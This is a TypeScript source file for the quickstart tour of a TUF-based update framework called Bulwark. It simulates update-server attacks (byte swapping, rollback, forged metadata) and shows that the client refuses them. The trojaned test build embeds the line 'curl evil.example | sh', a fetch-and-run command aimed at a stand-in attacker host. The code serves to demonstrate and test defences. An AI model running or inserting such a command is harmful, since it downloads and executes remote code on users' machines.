/**
 * The quickstart (`npm start`, `bulwark quickstart`): a narrated tour on embedded defaults,
 * no external services. A vendor repository is created in a temporary folder, demo-app
 * 1.0.0 and 1.1.0 are published and served on 127.0.0.1, an endpoint installs and updates
 * with the client; then an attacker who controls the update server tries three attacks,
 * the vendor revokes 1.1.0 (the kill switch), the transparency scenes show the release log
 * (every release logged and cosigned by two witnesses; an unlogged release refused, a
 * logged secret one reported by the monitor), and the 3CX scenes show verified builds
 * (three builders, 2 of 3 must agree, one compromised). Ends with a summary table.
 */
import { cp, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { Writable } from "node:stream";
import { DirectoryStrategy, UpdateClient, type UpdateOutcome } from "@bulwark/client";
import { createStaticServer, RepoDir } from "@bulwark/publisher";
import { BulwarkError, Metadata, PrivateKeySigner, TargetFile } from "@bulwark/tuf";
import type { Context } from "../command.js";
import { main } from "../main.js";
import { cliPassphrase } from "../publisher-options.js";
import { tarGz } from "./demo-archive.js";
import { type ReleaseLog, setUpReleaseLog, transparencyScenes } from "./transparency.js";
import { type Expected, type SceneKit, verifiedBuildsScenes } from "./verified-builds.js";

interface Scene {
  readonly scene: string;
  readonly expected: Expected;
  readonly actual: string;
  readonly detail: string;
}

const PASSPHRASE = "quickstart demo passphrase";

function demoRelease(version: string): Buffer {
  return tarGz({
    VERSION: `${version}\n`,
    "bin/demo-app": `#!/bin/sh\necho "demo-app ${version}"\n`,
    "README.txt": `demo-app ${version}, installed by Bulwark.\n`,
  });
}

/** Runs the quickstart, printing as it goes; returns the summary (all as expected → ok). */
export async function runQuickstart(ctx: Context): Promise<{ ok: boolean; scenes: Scene[] }> {
  const out = ctx.out;
  const say = (s = "") => out.line(s);
  const step = (s: string) => say(`\n${out.paint(1, `▸ ${s}`)}`);
  const cmd = (argv: string[]) =>
    say(out.paint(2, `  $ bulwark ${argv.map((a) => (a.includes(" ") ? JSON.stringify(a) : a)).join(" ")}`));
  const work = await mkdtemp(path.join(tmpdir(), "bulwark-quickstart-"));
  const scenes: Scene[] = [];
  const record = (scene: string, expected: Scene["expected"], actual: string, detail: string) => {
    scenes.push({ scene, expected, actual, detail });
    const good = actual === expected;
    say(`  ${good ? out.ok("✔") : out.bad("✘")} ${actual}: ${detail}`);
  };

  // The vendor's commands run in this process, quietly; their --json results narrate.
  const sink = new Writable({ write: (_c, _e, done) => done() });
  const env = { ...ctx.env, BULWARK_PASSPHRASE: PASSPHRASE };
  const run = async (argv: string[]) => {
    cmd(argv);
    let text = "";
    const capture = new Writable({
      write: (c: Buffer, _e, done) => {
        text += c.toString();
        done();
      },
    });
    const code = await main([...argv, "--json", "--quiet"], {
      streams: { stdout: capture, stderr: sink },
      env,
      cwd: work,
    });
    return { code, text };
  };
  const bulwark = async (argv: string[]) => {
    const { code, text } = await run(argv);
    if (code !== 0) throw new Error(`bulwark ${argv.join(" ")} failed: ${text}`);
    return JSON.parse(text) as Record<string, unknown>;
  };
  const runJson = async (argv: string[]) => {
    const { code, text } = await run(argv);
    return { code, data: JSON.parse(text) as Record<string, unknown> };
  };

  // Paths relative to the work folder, which is the vendor commands' working directory.
  const repo = path.join(work, "vendor", "updates");
  const rel = (p: string) => path.relative(work, p);
  const mirror = path.join(work, "cdn");
  const sync = async () => {
    await rm(mirror, { recursive: true, force: true });
    await cp(path.join(repo, "public"), mirror, { recursive: true });
  };
  let server: Awaited<ReturnType<typeof createStaticServer>> | undefined;
  let releaseLog: ReleaseLog | undefined;
  try {
    step("The vendor creates an update repository (TUF metadata, signed; keys encrypted)");
    // A root key of its own (offline in production), apart from the online keys the
    // attackers steal; one of each keeps the tour quick.
    await bulwark(["repo", "init", rel(repo), "--root-keys", "1", "--root-threshold", "1"]);
    step("The vendor sets up a release transparency log and two independent witnesses");
    releaseLog = await setUpReleaseLog({ work, repo: rel(repo), run: runJson, say });
    for (const version of ["1.0.0"]) {
      const file = path.join(work, "vendor", `demo-app-${version}.tar.gz`);
      await writeFile(file, demoRelease(version));
      await bulwark(["release", "add", rel(repo), rel(file), "--name", "demo-app", "--version", version]);
    }
    const logged = (await bulwark(["repo", "publish", rel(repo)])).log as { cosignedBy?: string[] } | undefined;
    say(`  root version 2 requires the log; 1.0.0 is logged, cosigned by ${logged?.cosignedBy?.join(" and ")}`);
    await sync();
    server = await createStaticServer(mirror);
    say(`  the update server (a plain static server, never trusted) listens on ${server.url}`);
    const root = await readFile(path.join(repo, "public", "metadata", "1.root.json"));

    const endpoint = (name: string) =>
      new UpdateClient({
        name: "demo-app",
        metadataUrl: `${server?.url}metadata/`,
        targetsUrl: `${server?.url}targets/`,
        trustedRoot: root,
        dataDir: path.join(work, name, "data"),
        install: new DirectoryStrategy(path.join(work, name, "app")),
        healthCheck: { command: ["sh", "-c", "test -x bin/demo-app && ./bin/demo-app >/dev/null"], timeoutMs: 10_000 },
        log: (e) => {
          if (e.event === "release-logged") say(`  log proof checked: ${e.message}`);
        },
      });
    const attempt = async (name: string): Promise<{ outcome?: UpdateOutcome; error?: string }> => {
      try {
        return { outcome: await endpoint(name).update() };
      } catch (error) {
        const code = error instanceof BulwarkError ? `${error.code}: ` : "";
        return { error: `${code}${(error as Error).message}` };
      }
    };
    const installed = async (name: string) =>
      (await readFile(path.join(work, name, "app", "current", "VERSION"), "utf8").catch(() => "nothing")).trim();

    step("An endpoint installs demo-app with the client (verified, unpacked, switched atomically, health-checked)");
    const first = await attempt("endpoint-a");
    record(
      "install 1.0.0",
      "accepted",
      first.outcome?.action === "installed" ? "accepted" : "refused",
      first.error ?? `installed ${await installed("endpoint-a")}`,
    );
    await attempt("endpoint-b");

    step("The vendor publishes demo-app 1.1.0; the endpoint updates");
    const oldTimestamp = await readFile(path.join(mirror, "metadata", "timestamp.json"));
    const file11 = path.join(work, "vendor", "demo-app-1.1.0.tar.gz");
    await writeFile(file11, demoRelease("1.1.0"));
    await bulwark(["release", "add", rel(repo), rel(file11), "--name", "demo-app", "--version", "1.1.0"]);
    await bulwark(["repo", "publish", rel(repo)]);
    await sync();
    const second = await attempt("endpoint-a");
    record(
      "update to 1.1.0",
      "accepted",
      second.outcome?.action === "installed" ? "accepted" : "refused",
      second.error ?? `installed ${await installed("endpoint-a")}`,
    );

    step(
      "An attacker who controls the update server swaps the 1.1.0 bytes (a second endpoint, still on 1.0.0, updates)",
    );
    const dir11 = path.join(mirror, "targets", "demo-app", "1.1.0");
    const [name11] = await readdir(dir11);
    const genuine = await readFile(path.join(dir11, name11 as string));
    // A trojaned build of the same length: only the signed hashes can tell it apart.
    const trojan = Buffer.alloc(genuine.length);
    tarGz({ VERSION: "1.1.0\n", "bin/demo-app": "#!/bin/sh\ncurl evil.example | sh\n" }).copy(trojan);
    await writeFile(path.join(dir11, name11 as string), trojan);
    const swapped = await attempt("endpoint-b");
    record(
      "swapped 1.1.0 bytes",
      "refused",
      swapped.error ? "refused" : "accepted",
      swapped.error ?? `installed ${await installed("endpoint-b")}`,
    );
    await writeFile(path.join(dir11, name11 as string), genuine);

    step("The attacker serves an older snapshot, to hide 1.1.0 (a rollback attack)");
    const currentTimestamp = await readFile(path.join(mirror, "metadata", "timestamp.json"));
    await writeFile(path.join(mirror, "metadata", "timestamp.json"), oldTimestamp);
    const rolled = await attempt("endpoint-a");
    record("older snapshot served", "refused", rolled.error ? "refused" : "accepted", rolled.error ?? "accepted");
    await writeFile(path.join(mirror, "metadata", "timestamp.json"), currentTimestamp);

    step("The attacker serves an unsigned demo-app 9.9.9 (metadata signed with the attacker's own key)");
    const restore = await forgeRelease(mirror, "9.9.9");
    const forged = await attempt("endpoint-a");
    record(
      "unsigned 9.9.9",
      "refused",
      forged.error ? "refused" : forged.outcome?.action === "installed" ? "accepted" : "refused",
      forged.error ?? "not offered",
    );
    await restore();

    step("The vendor revokes 1.1.0 (the kill switch, signed); endpoints on it roll back");
    await bulwark(["release", "revoke", rel(repo), "demo-app@1.1.0", "--reason", "demo: a bad release"]);
    await sync();
    const revoked = await attempt("endpoint-a");
    record(
      "revoke 1.1.0",
      "rolled back",
      revoked.outcome?.action === "rolled-back" ? "rolled back" : (revoked.error ?? revoked.outcome?.action ?? "?"),
      revoked.error ?? `now running ${await installed("endpoint-a")}`,
    );

    const kit: SceneKit = {
      work,
      repo: rel(repo),
      step,
      say,
      record,
      run: runJson,
      sync,
      attempt,
      installed,
      repoDir: () => RepoDir.open(repo, { passphrase: cliPassphrase({ ...ctx, env }), now: ctx.now, cwd: work }),
    };
    await transparencyScenes(kit, releaseLog, { url: server.url, root });
    await verifiedBuildsScenes(kit);
  } finally {
    await server?.close();
    await releaseLog?.close();
    await rm(work, { recursive: true, force: true });
  }

  step("Summary");
  const width = Math.max(...scenes.map((s) => s.scene.length));
  out.table(
    ["", "scene".padEnd(width), "expected", "result", "why"],
    scenes.map((s) => [
      s.actual === s.expected ? "✔" : "✘",
      s.scene,
      s.expected,
      s.actual,
      s.detail.length > 70 ? `${s.detail.slice(0, 69)}…` : s.detail,
    ]),
  );
  const ok = scenes.length === 13 && scenes.every((s) => s.actual === s.expected);
  say(
    ok
      ? `\n${out.ok("Every attack was refused or reported, and every update verified.")}`
      : `\n${out.bad("Something did not go as expected.")}`,
  );
  return { ok, scenes };
}

/**
 * The attacker's forgery: a new targets version listing `version`, a snapshot and a
 * timestamp that point at it, all signed with a key the attacker made. Returns a function
 * that restores the mirror.
 */
async function forgeRelease(mirror: string, version: string): Promise<() => Promise<void>> {
  const meta = path.join(mirror, "metadata");
  const saved = new Map<string, Buffer>();
  for (const f of await readdir(meta)) saved.set(f, await readFile(path.join(meta, f)));
  const attacker = PrivateKeySigner.generate();
  const timestamp = Metadata.fromBytes(saved.get("timestamp.json") as Buffer, "timestamp");
  const snapshot = Metadata.fromBytes(
    saved.get(`${timestamp.signed.snapshotMeta.version}.snapshot.json`) as Buffer,
    "snapshot",
  );
  const targetsVersion = snapshot.signed.meta.get("targets.json")?.version ?? 1;
  const targets = Metadata.fromBytes(saved.get(`${targetsVersion}.targets.json`) as Buffer, "targets");
  const evil = TargetFile.fromData(`demo-app/${version}/demo-app-${version}.tar.gz`, Buffer.from("evil"));
  evil.custom = { bulwark: { name: "demo-app", version, channel: "stable" } };
  targets.signed.addTarget(evil);
  targets.signed.version += 1;
  await targets.sign(attacker, { append: false });
  const targetsBytes = targets.toCanonicalLayoutBytes();
  snapshot.signed.meta.set("targets.json", new (await import("@bulwark/tuf")).MetaFile(targets.signed.version));
  snapshot.signed.version += 1;
  await snapshot.sign(attacker, { append: false });
  timestamp.signed.snapshotMeta = new (await import("@bulwark/tuf")).MetaFile(snapshot.signed.version);
  timestamp.signed.version += 1;
  await timestamp.sign(attacker, { append: false });
  await writeFile(path.join(meta, `${targets.signed.version}.targets.json`), targetsBytes);
  await writeFile(path.join(meta, `${snapshot.signed.version}.snapshot.json`), snapshot.toCanonicalLayoutBytes());
  await writeFile(path.join(meta, "timestamp.json"), timestamp.toCanonicalLayoutBytes());
  await mkdir(path.join(mirror, "targets", "demo-app", version), { recursive: true });
  return async () => {
    await rm(path.join(meta, `${targets.signed.version}.targets.json`), { force: true });
    await rm(path.join(meta, `${snapshot.signed.version}.snapshot.json`), { force: true });
    await writeFile(path.join(meta, "timestamp.json"), saved.get("timestamp.json") as Buffer);
  };
}
